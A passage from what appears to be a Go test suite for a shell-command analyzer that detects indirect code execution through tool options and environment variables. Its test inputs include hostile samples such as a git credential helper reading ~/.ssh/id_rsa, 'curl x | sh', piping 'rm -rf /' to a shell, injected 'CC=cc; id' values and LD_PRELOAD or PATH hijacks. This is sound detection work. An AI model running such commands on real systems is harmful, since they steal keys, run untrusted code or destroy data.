	{`make 'CC=cc; id'`, []want{cmd("make", "CC=cc; id").exec("make --eval")}},
	{`make -j4 CFLAGS=-O2 test`, []want{cmd("make", "-j4", "CFLAGS=-O2", "test")}},
	{`strace -f -o '|sh -c id' true`, []want{cmd("strace", "-f", "-o", "|sh -c id", "true").exec("strace -o"), cmd("sh", "-c", "id").via("strace -o").exec("sh -c"), cmd("id").via("strace -o", "sh -c"), cmd("true").via("strace")}},
	{`strace -o out.txt true`, []want{cmd("strace", "-o", "out.txt", "true"), cmd("true").via("strace")}},
	{`sqlite3 db '.shell id'`, []want{cmd("sqlite3", "db", ".shell id").exec("sqlite3 .shell")}},
	{`sqlite3 db ".once '|id'" 'select 1'`, []want{cmd("sqlite3", "db", ".once '|id'", "select 1").exec("sqlite3 .shell")}},
	{`sqlite3 -cmd '.system id' db`, []want{cmd("sqlite3", "-cmd", ".system id", "db").exec("sqlite3 .shell")}},
	{`sqlite3 db 'select 1'`, []want{cmd("sqlite3", "db", "select 1")}},
	{`hyperfine --setup 'make' 'id'`, []want{cmd("hyperfine", "--setup", "make", "id").exec("sh -c"), cmd("make").via("hyperfine"), cmd("id").via("hyperfine")}},
	{`cmake -E rm -rf build`, []want{cmd("cmake", "-E", "rm", "-rf", "build"), cmd("rm", "-rf", "build").via("cmake -E")}},
	{`cmake -E remove_directory build`, []want{cmd("cmake", "-E", "remove_directory", "build"), cmd("rm", "-rf", "build").via("cmake -E")}},
	{`cmake -E env A=1 id`, []want{cmd("cmake", "-E", "env", "A=1", "id"), cmd("id").via("cmake -E", "env")}},
	{`cmake -E chdir /tmp id`, []want{cmd("cmake", "-E", "chdir", "/tmp", "id"), cmd("cd", "/tmp").via("cmake -E"), cmd("id").via("cmake -E")}},
	{`cmake -E frobnicate x`, []want{cmd("cmake", "-E", "frobnicate", "x").dyn()}},
	{`cmake --build build`, []want{cmd("cmake", "--build", "build")}},
	{`julia -e 'run(x)'`, []want{cmd("julia", "-e", "run(x)").exec("julia -e")}},
	{`julia --eval=1 script.jl`, []want{cmd("julia", "--eval=1", "script.jl").exec("julia -e")}},
	{`ghc -package containers -O2 Main.hs`, []want{cmd("ghc", "-package", "containers", "-O2", "Main.hs")}},
	{`ghc -e main`, []want{cmd("ghc", "-e", "main").exec("ghc -e")}},
	{`mix run -e 'IO.puts 1'`, []want{cmd("mix", "run", "-e", "IO.puts 1").exec("elixir -e")}},
	{`stack exec -- id`, []want{cmd("stack", "exec", "--", "id"), cmd("id").via("stack exec")}},
	{`cabal exec --verbose id`, []want{cmd("cabal", "exec", "--verbose", "id"), cmd("id").via("cabal exec")}},
	{`uv run pytest -x`, []want{cmd("uv", "run", "pytest", "-x"), cmd("pytest", "-x").via("uv run")}},
	{`go test -exec 'sudo -n' ./...`, []want{cmd("go", "test", "-exec", "sudo -n", "./...").exec("go -exec"), cmd("sudo", "-n").via("go -exec")}},
	{`go test ./... -args -exec x`, []want{cmd("go", "test", "./...", "-args", "-exec", "x")}},
	{`go build -toolexec=id ./...`, []want{cmd("go", "build", "-toolexec=id", "./...").exec("go -exec"), cmd("id").via("go -exec")}},
	{`ctest --build-and-test . b --test-command id -x`, []want{cmd("ctest", "--build-and-test", ".", "b", "--test-command", "id", "-x"), cmd("id", "-x").via("ctest --test-command")}},
	{`meson test --wrapper 'valgrind -q'`, []want{cmd("meson", "test", "--wrapper", "valgrind -q").exec("meson --wrapper"), cmd("valgrind", "-q").via("meson --wrapper")}},
	{`cargo --config 'target.x.runner="id"' run`, []want{cmd("cargo", "--config", `target.x.runner="id"`, "run").exec("cargo --config")}},
	{`cargo --config net.git-fetch-with-cli=true build`, []want{cmd("cargo", "--config", "net.git-fetch-with-cli=true", "build")}},
	{`CC=clang make`, []want{cmd("make")}},
	{`RUSTFLAGS='-C linker=/tmp/x' cargo build`, []want{cmd("cargo", "build").exec("env RUSTFLAGS")}},
	{`RUSTFLAGS=-Dwarnings cargo build`, []want{cmd("cargo", "build")}},
	{`CFLAGS='-O2 -g' make`, []want{cmd("make")}},
	{`LDFLAGS=-fuse-ld=/tmp/x make`, []want{cmd("make").exec("env LDFLAGS")}},
	{`emacs --batch --eval '(x)'`, []want{cmd("emacs", "--batch", "--eval", "(x)").exec("emacs --eval")}},
	{`emacs -nw main.go`, []want{cmd("emacs", "-nw", "main.go")}},
	{`less '+!id' f`, []want{cmd("less", "+!id", "f").exec("less +cmd")}},
	{`less +G +/err f`, []want{cmd("less", "+G", "+/err", "f")}},
	{`man -P 'sh -c id' ls`, []want{cmd("man", "-P", "sh -c id", "ls").exec("man -P"), cmd("sh", "-c", "id").via("man -P").exec("sh -c"), cmd("id").via("man -P", "sh -c")}},
	{`man --pager=cat ls`, []want{cmd("man", "--pager=cat", "ls").exec("man -P"), cmd("cat").via("man -P")}},
	{`ed -s f <<< '!id'`, []want{cmd("ed", "-s", "f").exec("ed !")}},
	{`ed -s f <<< 'w'`, []want{cmd("ed", "-s", "f")}},
	{`sort --compress-program=gzip f`, []want{cmd("sort", "--compress-program=gzip", "f").exec("sort --compress-program"), cmd("gzip").via("sort --compress-program")}},
	{`split --filter='gzip > $FILE' f`, []want{cmd("split", "--filter=gzip > $FILE", "f").exec("split --filter"), cmd("gzip").via("split --filter").dyn()}},
	{`bat --pager='less -R' f`, []want{cmd("bat", "--pager=less -R", "f").exec("bat --pager"), cmd("less", "-R").via("bat --pager")}},
	{`bazel test --run_under='valgrind -q' //x`, []want{cmd("bazel", "test", "--run_under=valgrind -q", "//x").exec("bazel --run_under"), cmd("valgrind", "-q").via("bazel --run_under")}},
	{`fzf --preview 'cat {}'`, []want{cmd("fzf", "--preview", "cat {}").exec("fzf --preview")}},
	{`mvn exec:exec -Dexec.executable=id -Dexec.args=-u`, []want{cmd("mvn", "exec:exec", "-Dexec.executable=id", "-Dexec.args=-u").exec("mvn exec"), cmd("id", "-u").via("mvn exec")}},
	{`npm test --script-shell=/bin/zsh`, []want{cmd("npm", "test", "--script-shell=/bin/zsh").exec("npm --script-shell")}},
	{`CC='cc; id' make`, []want{cmd("make").exec("env CC")}},
	{`rsync -avz -e 'ssh -p 2222' a h:b`, []want{cmd("rsync", "-avz", "-e", "ssh -p 2222", "a", "h:b").exec("rsync -e"), cmd("ssh", "-p", "2222").via("rsync -e")}},
	{`rsync --rsh='sh -c id' a h:b`, []want{cmd("rsync", "--rsh=sh -c id", "a", "h:b").exec("rsync -e"), cmd("sh", "-c", "id").via("rsync -e").exec("sh -c"), cmd("id").via("rsync -e", "sh -c")}},
	{`rsync --rsync-path='sudo rsync' a h:b`, []want{cmd("rsync", "--rsync-path=sudo rsync", "a", "h:b").exec("rsync --rsync-path"), cmd("sudo", "rsync").via("rsync --rsync-path"), cmd("rsync").via("rsync --rsync-path", "sudo")}},
	{`scp -S ./evil a h:b`, []want{cmd("scp", "-S", "./evil", "a", "h:b").exec("scp -S"), cmd("evil").via("scp -S")}},
	{`git clone -u 'sh -c id' h:r`, []want{cmd("git", "clone", "-u", "sh -c id", "h:r").exec("git clone -u"), cmd("sh", "-c", "id").via("git clone -u").exec("sh -c"), cmd("id").via("git clone -u", "sh -c")}},
	{`git -c credential.helper='!f() { cat ~/.ssh/id_rsa; }; f' push`, []want{cmd("git", "-c", "credential.helper=!f() { cat ~/.ssh/id_rsa; }; f", "push").exec("git -c credential.helper"), cmd("cat", "~/.ssh/id_rsa").via("git -c credential.helper", "function f"), cmd("f").via("git -c credential.helper")}},
	{`git --config-env=core.sshCommand=CMD fetch`, []want{cmd("git", "--config-env=core.sshCommand=CMD", "fetch").dyn().exec("git --config-env core.sshCommand")}},

	// Environment variables that make programs run code.
	{`GIT_SSH_COMMAND='sh -c id' git fetch`, []want{cmd("git", "fetch").exec("env GIT_SSH_COMMAND"), cmd("sh", "-c", "id").via("env GIT_SSH_COMMAND").exec("sh -c"), cmd("id").via("env GIT_SSH_COMMAND", "sh -c")}},
	{`export EDITOR='vim -c "!id"'`, []want{cmd("export", `EDITOR=vim -c "!id"`).exec("env EDITOR"), cmd("vim", "-c", "!id").via("env EDITOR").exec("vim -c"), cmd("id").via("env EDITOR", "vim -c")}},
	{`LD_PRELOAD=/tmp/x.so ls`, []want{cmd("ls").exec("env LD_PRELOAD")}},
	{`env LD_PRELOAD=$LIB ls`, []want{cmd("env", "LD_PRELOAD=$LIB", "ls").dyn(), cmd("ls").via("env").dyn().exec("env LD_PRELOAD")}},
	{`BASH_ENV=./x.sh bash -c true`, []want{cmd("bash", "-c", "true").exec("sh -c").dyn(), cmd("true").via("bash -c")}},
	{`GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='sh -c id' git log`, []want{cmd("git", "log").exec("env GIT_CONFIG core.pager"), cmd("sh", "-c", "id").via("env GIT_CONFIG core.pager").exec("sh -c"), cmd("id").via("env GIT_CONFIG core.pager", "sh -c")}},
	{`PATH=/tmp/evil:$PATH ls`, []want{cmd("ls")}},
	{`hash -p /tmp/evil ls; ls`, []want{cmd("hash", "-p", "/tmp/evil", "ls").dyn(), cmd("ls")}},
	{`enable -f /tmp/x.so cat`, []want{cmd("enable", "-f", "/tmp/x.so", "cat").exec("enable -f")}},
	{`zip -T -TT 'sh -c id' a.zip f`, []want{cmd("zip", "-T", "-TT", "sh -c id", "a.zip", "f").exec("zip -TT"), cmd("sh", "-c", "id").via("zip -TT").exec("sh -c"), cmd("id").via("zip -TT", "sh -c")}},
}

// alsoDynamic lists rows whose Analysis is dynamic although none of their
// commands is: the reason is recorded at the analysis level.
var alsoDynamic = map[string]bool{
	`echo {1..100000}`: true,
}

func TestAnalyze(t *testing.T) {
	for _, tt := range analyzeTests {
		t.Run(tt.src, func(t *testing.T) {
			an, err := Analyze(tt.src)
			if err != nil {
				t.Fatalf("Analyze(%q): %v", tt.src, err)
			}
			checkInvariants(t, tt.src, an)
			var gotW []want
			anyDyn := false
			for _, c := range an.Commands {
				gotW = append(gotW, got(c))
				anyDyn = anyDyn || c.Dynamic
			}
			if !slices.EqualFunc(gotW, tt.want, want.equal) {
				t.Errorf("Analyze(%q) commands:\n%s\nwant:\n%s\nnotes: %q", tt.src, lines(gotW), lines(tt.want), an.Notes)
			}
			if an.Dynamic != (anyDyn || alsoDynamic[tt.src]) {
				t.Errorf("Analyze(%q).Dynamic = %v, want %v; notes: %q", tt.src, an.Dynamic, !an.Dynamic, an.Notes)
			}
		})
	}
}

func lines(ws []want) string {
	var sb strings.Builder
	for _, w := range ws {
		sb.WriteString("\t" + w.String() + "\n")
	}
	return sb.String()
}

// checkInvariants asserts what every Analysis must satisfy, whatever the
// input.
func checkInvariants(t testing.TB, src string, an *Analysis) {
	t.Helper()
	if an == nil {
		t.Fatalf("Analyze(%q) returned a nil Analysis and no error", src)
	}
	if len(an.Commands) > MaxCommands {
		t.Errorf("Analyze(%q): %d commands, more than MaxCommands", src, len(an.Commands))
	}
	if an.Dynamic && len(an.Notes) == 0 {
		t.Errorf("Analyze(%q) is dynamic without a note", src)
	}
	for i, c := range an.Commands {
		switch {
		case c.Bare && (c.Name != "" || len(c.Args) > 0):
			t.Errorf("Analyze(%q): bare command %d has a name or arguments: %+v", src, i, c)
		case !c.Bare && c.Name == "" && !c.Dynamic:
			t.Errorf("Analyze(%q): command %d has no name but is not dynamic: %+v", src, i, c)
		case c.Name != "" && c.Base != filepath.Base(c.Name):
			t.Errorf("Analyze(%q): command %d has base %q for name %q", src, i, c.Base, c.Name)
		case c.Name == "" && c.Base != "":
			t.Errorf("Analyze(%q): command %d has base %q but no name", src, i, c.Base)
		}
		if c.Dynamic && !an.Dynamic {
			t.Errorf("Analyze(%q): command %d is dynamic but the analysis is not", src, i)
		}
		if len(c.DynamicArgs) > 0 && !c.Dynamic {
			t.Errorf("Analyze(%q): command %d has dynamic arguments but is not dynamic", src, i)
		}
		for j, k := range c.DynamicArgs {
			if k < 0 || k >= len(c.Args) || j > 0 && k <= c.DynamicArgs[j-1] {
				t.Errorf("Analyze(%q): command %d has bad DynamicArgs %v for %d args", src, i, c.DynamicArgs, len(c.Args))
			}
		}
		for _, r := range c.Redirects {
			if r.Dynamic && r.Target != "" {
				t.Errorf("Analyze(%q): command %d has a dynamic redirection with a target: %+v", src, i, r)
			}
			if r.Dynamic && r.file() && !c.Dynamic {
				t.Errorf("Analyze(%q): command %d writes or reads a dynamic path but is not dynamic", src, i)
			}
		}
		if c.Code != "" && c.CodeExec == "" {
			t.Errorf("Analyze(%q): command %d has Code but no CodeExec", src, i)
		}
		if c.Pos.Line < 1 {
			t.Errorf("Analyze(%q): command %d has no position: %+v", src, i, c)
		}
	}
}

func TestAnalyzeParseError(t *testing.T) {
	tests := []struct {
		src       string
		line, col int
		inc       bool
	}{
		{`echo "unterminated`, 1, 6, true},
		{"if true; then", 1, 10, true},
		{"echo ok\nfoo &|", 2, 6, false},
		{"echo ${(f)x}", 1, 6, false},
		{")", 1, 1, false},
	}
	for _, tt := range tests {
		an, err := Analyze(tt.src)
		var pe *ParseError
		if !errors.As(err, &pe) {
			t.Errorf("Analyze(%q) = %v, %v; want a *ParseError", tt.src, an, err)
			continue
		}
		if an != nil {
			t.Errorf("Analyze(%q) returned an Analysis with its error", tt.src)
		}
		if pe.Line != tt.line || pe.Col != tt.col || pe.Incomplete != tt.inc || pe.Msg == "" {
			t.Errorf("Analyze(%q) error = %+v; want %d:%d incomplete=%v", tt.src, pe, tt.line, tt.col, tt.inc)
		}
		if !strings.Contains(pe.Error(), fmt.Sprintf("%d:%d", tt.line, tt.col)) || pe.Unwrap() == nil {
			t.Errorf("Analyze(%q) error %q lacks its position or cause", tt.src, pe.Error())
		}
	}
}

func TestAnalyzePositions(t *testing.T) {
	tests := []struct {
		src  string
		want []Pos
	}{
		{"ls", []Pos{{1, 1}}},
		{"ls\n  rm x; cat y", []Pos{{1, 1}, {2, 3}, {2, 9}}},
		{"sudo  rm x", []Pos{{1, 1}, {1, 7}}},
		{"echo $(id)", []Pos{{1, 1}, {1, 8}}},
		// Commands in a string of code are placed at the word holding it.
		{"echo a; bash -c 'rm x; ls'", []Pos{{1, 1}, {1, 9}, {1, 17}, {1, 17}}},
		{"sh -c \"sh -c 'rm x'\"", []Pos{{1, 1}, {1, 7}, {1, 7}}},
		{"cat <<EOF\nx $(id)\nEOF", []Pos{{1, 1}, {2, 5}}},
		{"X=1", []Pos{{1, 1}}},
	}
	for _, tt := range tests {
		an, err := Analyze(tt.src)
		if err != nil {
			t.Fatalf("Analyze(%q): %v", tt.src, err)
		}
		var got []Pos
		for _, c := range an.Commands {
			got = append(got, c.Pos)
		}
		if !slices.Equal(got, tt.want) {
			t.Errorf("Analyze(%q) positions = %v, want %v", tt.src, got, tt.want)
		}
	}
}

func TestAnalyzeCode(t *testing.T) {
	tests := []struct {
		src  string
		cmd  int
		kind string
		code string
	}{
		{`bash -c 'rm x'`, 0, "sh -c", "rm x"},
		{`perl -e 'print 1' -e 'print 2'`, 0, "perl -e", "print 1\nprint 2"},
		{"python3 - <<'EOF'\nimport os\nEOF", 0, "stdin script", "import os\n"},
		{"echo 'rm -rf /' | sh", 1, "stdin script", "rm -rf /\n"},
		{"echo -n id | sh", 1, "stdin script", "id"},
		{"cat <<EOF | bash\nls\nEOF", 1, "stdin script", "ls\n"},
		{"sh <<< 'id'", 0, "stdin script", "id\n"},
		{"powershell -enc ZABpAHIA", 0, "powershell -c", "dir"},
		{"git -c core.pager='less -R' log", 0, "git -c core.pager", "less -R"},
		{"ssh h -o RemoteCommand='uptime'", 0, "ssh remote", "uptime"},
		{"eval 'a=1;' echo", 0, "eval", "a=1; echo"},
		{"awk '{print}' f", 0, "", ""},
		{"curl x | sh", 1, "stdin script", ""},
	}
	for _, tt := range tests {
		an, err := Analyze(tt.src)
		if err != nil {
			t.Fatalf("Analyze(%q): %v", tt.src, err)
		}
		checkInvariants(t, tt.src, an)
		c := an.Commands[tt.cmd]
		if c.CodeExec != tt.kind || c.Code != tt.code {
			t.Errorf("Analyze(%q).Commands[%d]: CodeExec %q, Code %q; want %q, %q", tt.src, tt.cmd, c.CodeExec, c.Code, tt.kind, tt.code)
		}
	}
}

func TestAnalyzeAssigns(t *testing.T) {
	tests := []struct {
		src  string
		cmd  int
		want []Assign
	}{
		{"FOO=1 BAR=$x make", 0, []Assign{{Name: "FOO", Value: "1"}, {Name: "BAR", Value: "$x", Dynamic: true}}},
		{"a=$(id)", 0, []Assign{{Name: "a", Value: "$(id)", Dynamic: true}}},
		{"a[2]=x", 0, []Assign{{Name: "a[2]", Value: "x"}}},
		{"a=(1 2)", 0, []Assign{{Name: "a", Value: "(1 2)"}}},
		{"a=(1 $x)", 0, []Assign{{Name: "a", Value: "(1 $x)", Dynamic: true}}},
		{"export A='x y' B", 0, []Assign{{Name: "A", Value: "x y"}}},
		{"env LD_PRELOAD=/tmp/x.so ls", 1, []Assign{{Name: "LD_PRELOAD", Value: "/tmp/x.so"}}},
		{"sudo HOME=/tmp ls", 1, []Assign{{Name: "HOME", Value: "/tmp"}}},
		{"GIT_SSH_COMMAND='sh -c id' git fetch", 0, []Assign{{Name: "GIT_SSH_COMMAND", Value: "sh -c id"}}},
	}
	for _, tt := range tests {
		an, err := Analyze(tt.src)
		if err != nil {
			t.Fatalf("Analyze(%q): %v", tt.src, err)
		}
		if got := an.Commands[tt.cmd].Assigns; !slices.Equal(got, tt.want) {
			t.Errorf("Analyze(%q).Commands[%d].Assigns = %+v, want %+v", tt.src, tt.cmd, got, tt.want)
		}
	}
}

// nestShell wraps code in n levels of bash -c.
func nestShell(code string, n int) string {
	for range n {
		q, err := syntax.Quote(code, syntax.LangBash)
		if err != nil {
			panic(err)
		}
		code = "bash -c " + q
	}
	return code
}

func TestAnalyzeLimits(t *testing.T) {
	tests := []struct {
		name     string
		src      string
		dynamic  bool
		note     string // a substring of some note
		commands int    // expected number of commands, or -1 to skip
	}{
		{"depth at limit", nestShell("rm x", MaxDepth), false, "", MaxDepth + 1},
		{"depth over limit", nestShell("rm x", MaxDepth+1), true, "nests more than", MaxDepth + 1},
		{"commands", strings.Repeat(":;", MaxCommands+5), true, "more than 10000 commands", MaxCommands},
		{"source length", strings.Repeat("a", MaxSource+1), true, "longer than", 0},
		{"brace expansion", "echo {1..10}{1..10}{1..10}{1..10}", true, "too large", 1},
		{"brace groups", "echo " + strings.Repeat("{a,b}", 2000), true, "too large", 1},
		{"brace sequences", "echo " + strings.Repeat("{1..1}", 2000), true, "too large", 1},
		{"brace range", "echo {-9223372036854775808..9223372036854775807}", true, "too large", 1},
		{"substitution nesting", "a=" + strings.Repeat("$(a=", 200) + "1" + strings.Repeat(")", 200), true, "nest more than", maxNesting + 1},
		{"block nesting", strings.Repeat("{ ", 200) + "x" + strings.Repeat("; }", 200), true, "nest more than", 0},
		{"nested code budget", nestShell(": "+strings.Repeat("a", 400_000), 3), true, "too much nested code", 3},
		{"wrappers", strings.Repeat("nice ", 100) + "rm x", true, "more than 64 wrappers", 65},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			an, err := Analyze(tt.src)
			if err != nil {
				t.Fatalf("Analyze: %v", err)
			}
			checkInvariants(t, tt.name, an)
			if an.Dynamic != tt.dynamic {
				t.Errorf("Dynamic = %v, want %v; notes %q", an.Dynamic, tt.dynamic, an.Notes)
			}
			if tt.note != "" && !slices.ContainsFunc(an.Notes, func(n string) bool { return strings.Contains(n, tt.note) }) {
				t.Errorf("no note contains %q: %q", tt.note, an.Notes)
			}
			if tt.commands >= 0 && len(an.Commands) != tt.commands {
				t.Errorf("%d commands, want %d", len(an.Commands), tt.commands)
			}
		})
	}
}

func TestAnalyzeNotes(t *testing.T) {
	an, err := Analyze("ls; $CMD -rf /")
	if err != nil {
		t.Fatal(err)
	}
	if len(an.Notes) != 1 || !strings.HasPrefix(an.Notes[0], "1:5: ") || !strings.Contains(an.Notes[0], "$CMD") {
		t.Errorf("notes = %q, want one note at 1:5 naming $CMD", an.Notes)
	}
	an, err = Analyze(strings.Repeat("$x;", 500))
	if err != nil {
		t.Fatal(err)
	}
	if len(an.Notes) != maxNotes+1 || !strings.Contains(an.Notes[maxNotes], "omitted") {
		t.Errorf("%d notes, want %d ending with an omission line", len(an.Notes), maxNotes+1)
	}
}

// TestAnalyzerReuse checks that a reused Analyzer answers as a fresh one,
// including after a parse error.
func TestAnalyzerReuse(t *testing.T) {
	z := NewAnalyzer()
	for _, tt := range analyzeTests {
		if _, err := z.Analyze("echo 'unterminated"); err == nil {
			t.Fatal("want a parse error")
		}
		got, err1 := z.Analyze(tt.src)
		want, err2 := Analyze(tt.src)
		if err1 != nil || err2 != nil || !reflect.DeepEqual(got, want) {
			t.Errorf("reused Analyzer on %q: %+v, %v; want %+v, %v", tt.src, got, err1, want, err2)
		}
	}
}

// TestAnalyzeWorkBound runs inputs built to make the analysis slow: each
// must finish far within the bound, which is generous so that a loaded
// machine does not fail the test. Every one took under 0.3s when written.
func TestAnalyzeWorkBound(t *testing.T) {
	if testing.Short() {
		t.Skip("slow inputs")
	}
	inputs := map[string]string{
		"many commands":   strings.Repeat("a b c;", 100_000),
		"many words":      "echo " + strings.Repeat("a ", 200_000),
		"wrapper chain":   strings.Repeat("sudo ", 50_000) + "ls",
		"find nested":     strings.Repeat("find -exec ", 20_000) + "ls",
		"many code parts": "alias " + strings.Repeat("a=ls ", 50_000),
		"parallel inputs": "parallel ::: " + strings.Repeat("ls ", 100_000),
		"tar old style":   "tar " + strings.Repeat("I", 50_000) + " " + strings.Repeat("x ", 50_000),
		"git -c":          "git " + strings.Repeat("-c core.pager=ls ", 20_000) + "log",
		"brace groups":    "echo " + strings.Repeat("{a,b}", 20_000),
		"brace in eval":   "eval " + strings.Repeat("{a,b}{c,d}{e,f}{g,h}{i,j}{k,l}{m,n}{o,p}{q,r}{s,t} ", 100),
		"heredocs":        strings.Repeat("cat <<E\n$(id)\nE\n", 20_000),
		"nested subst":    strings.Repeat("echo $(", 2000) + strings.Repeat(")", 2000),
	}
	for name, src := range inputs {
		start := time.Now()
		an, err := Analyze(src)
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		checkInvariants(t, name, an)
		if d := time.Since(start); d > 5*time.Second {
			t.Errorf("%s: Analyze of %d bytes took %v", name, len(src), d)
		}
	}
}
